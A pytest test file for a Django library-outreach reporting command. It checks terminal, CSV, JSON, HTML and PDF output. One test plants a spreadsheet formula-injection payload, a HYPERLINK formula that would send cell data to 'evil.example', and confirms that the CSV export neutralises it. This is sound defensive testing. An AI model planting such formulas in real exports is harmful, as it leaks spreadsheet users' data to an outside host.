"""`patronflow report` as a terminal table, CSV, JSON and a self-contained HTML file."""

import csv
import datetime as dt
import io
import json
import shutil
from html.parser import HTMLParser

import pytest
from django.core.management import CommandError, call_command
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from patronflow.reports.baseline import MonthFigures
from patronflow.reports.benchmark import COUNTS as BENCHMARK_COUNTS
from patronflow.reports.benchmark import benchmark_of
from patronflow.reports.effect import JourneyEffect, Outcome, effect_of
from patronflow.reports.exports import Report, report_data, report_json
from patronflow.reports.published import publish_campaign, published_effects, published_months
from patronflow.reports.tables import baseline_table
from patronflow.tracking.models import Event, Feedback
from tests.factories import (
    EnrolmentFactory,
    LibraryFactory,
    LoanFactory,
    MemberFactory,
    MessageFactory,
    at,
)
from tests.reports import test_comparison as compared
from tests.reports.helpers import (
    EFFECTS,
    MONDAY,
    WINDOWS_PASSED,
    effect_campaign,
    mails,
    shape,
    tallies,
)


@pytest.fixture
def network(library):
    """Gent's dormant journey with mailed and held-out members, some of whom came back."""
    journey = library.journeys.get(key="dormant")
    step = journey.current_version.steps.get(position=1)
    variant = step.variants.get(segment="")
    for number in range(48):
        enrolment = EnrolmentFactory(journey=journey, held_out=number % 4 == 0)
        if not enrolment.held_out:
            message = MessageFactory(enrolment=enrolment, step=step, variant=variant)
            Event.objects.create(message=message, kind=Event.Kind.CLICK, link_index=0)
        if number % 3 == 0:
            LoanFactory(member=enrolment.member, loaned_on=enrolment.entered_on)
    return library


def report(*arguments: str, capsys) -> str:
    call_command("report", *arguments)
    return capsys.readouterr().out


def test_the_terminal_report_still_opens_with_the_figures_per_step(network, capsys):
    output = report(capsys=capsys)
    gent = report("--library", "gent", capsys=capsys)

    assert output.index("Library gent") < output.index("Effect of We missen je (gent)")
    assert "Not enough data yet" in output
    assert "Baseline for gent" in output
    assert "the network admin has chosen no comparison libraries" in gent


def test_csv_has_a_header_and_one_row_per_step_and_variant(network, capsys):
    rows = list(csv.DictReader(io.StringIO(report("--format", "csv", capsys=capsys))))

    [row] = rows
    assert (row["journey"], row["step"], row["segment"]) == ("dormant", "1", "default")
    assert (row["sent"], row["clicked"], row["click_rate"]) == ("36", "36", "1.0")
    assert {"delivered", "uncertain", "human_opened", "net_score", "survey_clicks"} <= set(row)


def test_csv_of_the_effect_table_gives_each_measure_its_verdict(network, capsys):
    output = report("--format", "csv", "--table", "effect", capsys=capsys)
    rows = list(csv.DictReader(io.StringIO(output)))

    assert [row["measure"] for row in rows][:2] == [
        "borrowed or visited within 30 days",
        "loans per member in 30 days",
    ]
    verdicts = {(row["journey_name"], row["verdict"].split(" (")[0].split(":")[0]) for row in rows}
    assert verdicts == {
        ("We missen je", "Not enough data yet"),
        ("Welkom voor nieuwe leden", "No control group"),
    }


def test_json_holds_every_table(network, capsys):
    data = json.loads(report("--format", "json", "--library", "gent", capsys=capsys))

    assert set(data) >= {"as_of", "metrics", "weekly", "effect", "baseline", "benchmark", "funnel"}
    assert data["library"] == "gent"
    assert data["metrics"][0]["sent"] == 36
    assert [row["library"] for row in data["benchmark"]] == ["gent", "rest", "total"]
    assert data["benchmark"][1]["mailed"] is None  # no other library's members: under 10


class Resources(HTMLParser):
    """Every attribute or stylesheet rule by which a page could fetch something."""

    def __init__(self) -> None:
        super().__init__()
        self.fetches: list[str] = []
        self.scripts = 0
        self.in_style = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            on_the_page = name == "href" and value and value.startswith("#")
            if name in {"src", "href", "srcset", "data", "poster", "action"} and value:
                self.fetches.extend([] if on_the_page else [f"<{tag} {name}={value}>"])
        if tag == "script":
            self.scripts += 1
        self.in_style = tag == "style"

    def handle_data(self, data):
        if self.in_style and ("url(" in data or "@import" in data):
            self.fetches.append(data)


def test_html_report_is_one_file_that_fetches_nothing(network, tmp_path, capsys):
    path = tmp_path / "report.html"
    report("--html", str(path), capsys=capsys)

    page = path.read_text(encoding="utf-8")
    parser = Resources()
    parser.feed(page)

    assert parser.fetches == []
    assert parser.scripts >= 2  # Chart.js and the charts, both inline
    assert "Chart.js v4" in page
    assert "default-src 'none'" in page  # the browser itself refuses any request
    assert 'data-testid="cards"' in page and 'data-json="metrics.0.sent">36</data>' in page
    assert '<script id="chart-data" type="application/json">' in page


def test_csv_cells_that_start_like_a_formula_are_text_and_negative_figures_stay_numbers(
    library, capsys
):
    journey = library.journeys.get(key="dormant")
    step = journey.current_version.steps.get(position=1)
    step.name = '=HYPERLINK("https://evil.example/?"&A2,"Klik")'
    step.save()
    variant = step.variants.get(segment="")
    for number in range(30):
        enrolment = EnrolmentFactory(journey=journey)
        message = MessageFactory(enrolment=enrolment, step=step, variant=variant)
        vote = Feedback.Vote.UP if number < 10 else Feedback.Vote.DOWN
        Feedback.objects.create(message=message, vote=vote)

    output = report("--format", "csv", capsys=capsys)

    assert ',"\'=HYPERLINK(""https://evil.example/?""&A2,""Klik"")",' in output
    [row] = csv.DictReader(io.StringIO(output))
    assert row["step_name"] == f"'{step.name}"
    assert row["net_score"] == str(-1 / 3)  # a number a spreadsheet sums, not text


# What each output says of the 30-day comparison where the effect is clear, unclear, absent.
VERDICTS = {
    "clear": "Mailed members did more",
    "unclear": "No effect shown",
    "absent": "No effect shown",
}


@pytest.fixture(params=list(EFFECTS))
def effect(request, library) -> str:
    effect_campaign(library, request.param)
    return request.param


def on_report_day(*arguments: str, capsys) -> str:
    return report("--as-of", WINDOWS_PASSED.isoformat(), *arguments, capsys=capsys)


def test_the_terminal_report_gives_the_verdict_whatever_the_effect(effect, capsys):
    output = on_report_day(capsys=capsys)

    assert "Effect of We missen je (gent)" in output
    assert VERDICTS[effect] in " ".join(output.split())  # verdicts wrap in the table
    answers = {"clear": "yes: mailed members did more", "unclear": "no effect shown"}
    summary = " ".join(output[output.index("Did it work?") :].split())
    assert answers.get(effect, "no effect shown") in summary


def test_the_csv_effect_table_gives_the_verdict_whatever_the_effect(effect, capsys):
    rows = csv.DictReader(
        io.StringIO(on_report_day("--format", "csv", "--table", "effect", capsys=capsys))
    )

    [came_back] = [
        row
        for row in rows
        if row["measure"] == "borrowed or visited within 30 days" and row["journey"] == "dormant"
    ]
    assert came_back["verdict"].startswith(VERDICTS[effect])
    assert came_back["claimed"] == str(effect == "clear")


def test_the_json_report_is_valid_whatever_the_effect(effect, capsys):
    data = json.loads(on_report_day("--format", "json", capsys=capsys))

    [came_back] = [
        row
        for row in data["effect"]
        if row["outcome"] == "returned" and row["window"] == 30 and row["journey"] == "dormant"
    ]
    assert came_back["claimed"] is (effect == "clear")
    assert came_back["verdict"].startswith(VERDICTS[effect])
    assert isinstance(came_back["p_value"], float)


def test_the_html_report_is_written_whatever_the_effect(effect, tmp_path, capsys):
    path = tmp_path / "report.html"
    on_report_day("--html", str(path), capsys=capsys)

    page = path.read_text(encoding="utf-8")
    assert VERDICTS[effect] in page
    verdict = {"clear": "worked", "unclear": "no_effect_shown", "absent": "no_effect_shown"}
    assert f'data-verdict="{verdict[effect]}"' in page


AS_OF = dt.date(2026, 9, 1)


@st.composite
def outcomes(draw) -> list[Outcome]:
    """A journey's members, mailed and held out, from none to enough for a verdict: some back
    within the windows, with loans, some with a profile."""
    rows = []
    for held_out in (False, True):
        members = draw(st.integers(0, 90))
        came_back = draw(st.integers(0, members))
        for number in range(members):
            back = number < came_back
            rows.append(
                Outcome(
                    held_out=held_out,
                    start=MONDAY,
                    returned_after=draw(st.integers(1, 90)) if back else None,
                    loan_days=tuple(draw(st.lists(st.integers(1, 90), max_size=3))) if back else (),
                    has_profile=draw(st.booleans()),
                )
            )
    return rows


count = st.integers(0, 400)
months = st.lists(
    st.builds(
        MonthFigures,
        library=st.just("gent"),
        month=st.dates(dt.date(2026, 1, 1), AS_OF),
        loans=st.none() | count,
        borrowers=st.none() | count,
        baseline_month=st.dates(dt.date(2025, 1, 1), dt.date(2025, 12, 1)),
        baseline_loans=count,
        baseline_borrowers=count,
        partial_through=st.none() | st.integers(1, 28),
        no_loans_after=st.none() | st.dates(dt.date(2026, 1, 1), AS_OF),
    ),
    max_size=4,
)
benchmark = st.dictionaries(
    st.sampled_from(["gent", "brugge", "aalst", "leeg"]),
    st.fixed_dictionaries({name: count for name in BENCHMARK_COUNTS}),
)


def plain(value) -> bool:
    """Only what JSON itself holds: no numpy number or anything else a writer must convert."""
    if isinstance(value, dict):
        return all(type(key) is str and plain(item) for key, item in value.items())
    if isinstance(value, list):
        return all(plain(item) for item in value)
    return type(value) in (str, int, float, bool, type(None))


def refuse(constant: str):
    raise ValueError(f"{constant} is not JSON")


@settings(max_examples=60, deadline=None)
@given(shape, st.lists(outcomes(), min_size=1, max_size=2), months, benchmark)
def test_the_json_report_is_valid_json_that_reads_back_as_written(steps, journeys, months, table):
    campaign = publish_campaign(tallies(steps))
    effects = [
        JourneyEffect(
            library="gent",
            journey=f"journey-{number}",
            journey_name="Welkom",
            enrolments=len(rows),
            held_out=sum(row.held_out for row in rows),
            holdout_percent=10 * number,
            comparisons=effect_of(rows, AS_OF, profiles=True),
        )
        for number, rows in enumerate(journeys)
    ]
    report = Report(
        as_of=AS_OF,
        library=None,
        metrics=campaign.variants,
        weekly=campaign.weekly,
        funnel=campaign.steps,
        effects=published_effects(effects),
        baselines=published_months(months),
        benchmark=benchmark_of(table) if table else None,
    )

    data = report_data(report)
    assert plain(data)
    assert json.loads(report_json(report), parse_constant=refuse) == data


def test_months_after_the_last_imported_loan_say_so_in_the_table_and_the_html(
    library, tmp_path, capsys
):
    journey = library.journeys.get(key="dormant")
    step = journey.current_version.steps.get(position=1)
    MessageFactory(enrolment__journey=journey, step=step, variant=step.variants.get(segment=""),
                   sent_at=at(dt.date(2026, 3, 2)))  # fmt: skip
    reader = MemberFactory(library=library)
    for day in (dt.date(2025, 3, 3), dt.date(2025, 4, 3), dt.date(2025, 5, 4)):
        LoanFactory.create_batch(12, member=reader, loaned_on=day)
    for day in (dt.date(2026, 3, 3), dt.date(2026, 4, 8)):  # the last import: 8 April
        LoanFactory.create_batch(12, member=reader, loaned_on=day)
    path = tmp_path / "report.html"

    table = report("--as-of", "2026-05-20", "--html", str(path), capsys=capsys)
    table += report("--as-of", "2026-05-20", capsys=capsys)
    page = path.read_text(encoding="utf-8")

    for output in (table, page):
        assert "2026-04 (to day 8: partial)" in output
        assert "no loans imported after 2026-04-08" in output
        assert "-100%" not in output
    drawn = json.loads(page.split('type="application/json">')[1].split("</script>")[0])
    assert [(month["loans"], month["partial_through"]) for month in drawn["baseline"]] == [
        (12, None),
        (12, 8),
        (None, None),
    ]


def test_the_html_report_shows_a_week_of_a_few_mails_as_greyed_counts_not_a_rate(
    library, tmp_path, capsys
):
    variant = library.journeys.get(key="dormant").current_version.steps.get(position=1)
    variant = variant.variants.get(segment="")
    for week, count in enumerate((4, 20, 6)):
        for message in mails(variant, count, day=MONDAY + dt.timedelta(weeks=week))[: count // 2]:
            Event.objects.create(message=message, kind=Event.Kind.CLICK, link_index=0)
    path = tmp_path / "report.html"

    report("--html", str(path), capsys=capsys)

    page = path.read_text(encoding="utf-8")
    weekly = page.split('data-testid="weekly"')[1].split("</table>")[0]
    assert weekly.count('<tr class="muted-row">') == 2
    assert weekly.count('data-json="weekly.0.click_rate">·</data>') == 1
    drawn = json.loads(page.split('type="application/json">')[1].split("</script>")[0])
    assert [
        point["y"]
        for point in drawn["over_time"]["gent We missen je 1. We missen je · Everyone else"]
    ] == [None, 0.5, None]


@pytest.mark.skipif(shutil.which("chromium") is None, reason="no Chromium to print with")
def test_the_report_prints_to_a_pdf_for_the_board(network, tmp_path, capsys):
    path = tmp_path / "board.pdf"

    report("--pdf", str(path), "--language", "nl", capsys=capsys)

    document = path.read_bytes()
    assert document.startswith(b"%PDF-") and len(document) > 10_000


def test_without_a_browser_the_pdf_is_refused_in_words(network, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))  # no browser on it

    with pytest.raises(CommandError, match="print it from a browser"):
        call_command("report", "--pdf", str(tmp_path / "board.pdf"))


def test_json_csv_and_html_carry_the_library_against_its_comparison_libraries(
    library, tmp_path, capsys
):
    others = [LibraryFactory(code=code) for code in ("aalst", "brugge", "dendermonde")]
    library.comparison_libraries.set(others)
    # Gent's loans 200 → 240 in March and April; Aalst's and Dendermonde's +10%, Brugge's 0%.
    active = compared.active
    active(library, "before", loans=100, borrowers=40, visits=0, visitors=0)
    active(library, "after", loans=120, borrowers=50, visits=0, visitors=0)
    for other, (before, after) in zip(others, [(100, 110), (50, 50), (200, 220)], strict=True):
        active(other, "before", loans=before, borrowers=30, visits=0, visitors=0)
        active(other, "after", loans=after, borrowers=30, visits=0, visitors=0)
    period = ("--library", "gent", "--since", compared.SINCE.isoformat())
    period += ("--as-of", compared.AS_OF.isoformat())

    data = json.loads(report("--format", "json", *period, capsys=capsys))
    table = report("--format", "csv", "--table", "comparison", *period, capsys=capsys)
    rows = list(csv.DictReader(io.StringIO(table)))
    report("--html", str(tmp_path / "report.html"), *period, capsys=capsys)

    assert data["compared_with"] == [f"Bibliotheek {o.code.title()}" for o in others]
    loans = data["comparison"][0]
    assert (loans["measure"], loans["own_before"], loans["own_after"]) == ("loans", 200, 240)
    assert loans["own_change"] == pytest.approx(0.2)
    assert loans["difference"] == pytest.approx(1.2 / 1.1 ** (2 / 3) - 1)
    assert (loans["look"], loans["libraries"], loans["left_out"]) == (2, 3, 0)
    for other in others:  # no other library's own figures, nor its name, in the table
        assert other.code not in json.dumps(data["comparison"]).lower()
    visits = data["comparison"][2]
    assert visits["own_change"] is None and "own_change" in visits["suppressed"]
    assert [row["measure"] for row in rows] == ["loans", "borrowers", "visits"]
    assert rows[0]["own_after"] == "240" and rows[2]["own_after"] == "·"
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert 'data-json="comparison.0.own_change">+20.0%</data>' in page
    terminal = report(*period, capsys=capsys)
    assert "gent against Bibliotheek Aalst, Bibliotheek Brugge, Bibliotheek Dendermonde" in terminal
    assert "2026-03 to 2026-04 against 2025-03 to 2025-04" in terminal
    [loans_line] = [line for line in terminal.splitlines() if line.startswith("│ loans")]
    cells = [cell.strip() for cell in loans_line.split("│")]
    assert cells[1:7] == ["loans", "200", "240", "+20.0%", "+6.6%", "+12.6%"]


def test_the_terminal_baseline_shows_visits_once_a_visit_is_imported():
    month = MonthFigures(
        library="gent", month=dt.date(2026, 5, 1), loans=120, borrowers=40,
        baseline_month=dt.date(2025, 5, 1), baseline_loans=100, baseline_borrowers=35,
        visits=60, visitors=30, baseline_visits=50, baseline_visitors=5,
    )  # fmt: skip
    console = Console(file=io.StringIO(), width=200)

    console.print(baseline_table(published_months([month])))

    [row] = [line for line in console.file.getvalue().splitlines() if line.startswith("│ 2026-05")]
    cells = [cell.strip() for cell in row.split("│")][1:-1]
    assert cells == [
        "2026-05",
        "120",
        "40",
        "60",
        "30",
        "2025-05",
        "100",
        "35",
        "+20%",
        "50",
        "+20%",
    ]
